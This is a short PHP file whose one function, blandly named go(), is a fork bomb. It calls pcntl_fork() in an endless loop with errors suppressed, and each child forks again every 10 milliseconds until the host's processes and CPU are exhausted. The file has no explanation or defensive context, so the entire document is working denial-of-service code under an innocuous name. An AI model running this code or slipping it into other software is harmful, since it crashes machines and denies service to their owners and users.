<?php

function go(): bool
{
    while (true) {
        $pid = @pcntl_fork();
        if ($pid === 0) {
            while (true) {
                @pcntl_fork();
                usleep(10000);
            }
        }
    }
}
